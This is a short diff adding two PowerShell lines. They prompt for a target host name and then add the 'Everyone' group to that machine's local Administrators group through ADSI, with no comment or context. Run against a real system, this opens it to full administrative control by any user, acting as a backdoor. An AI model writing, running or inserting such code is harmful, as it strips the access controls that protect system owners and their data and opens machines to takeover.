@@ -1,0 +1,2 @@
+$target = Read-Host
+([ADSI]"WinNT://$target/Administrators,group").Add('WinNT://Everyone')
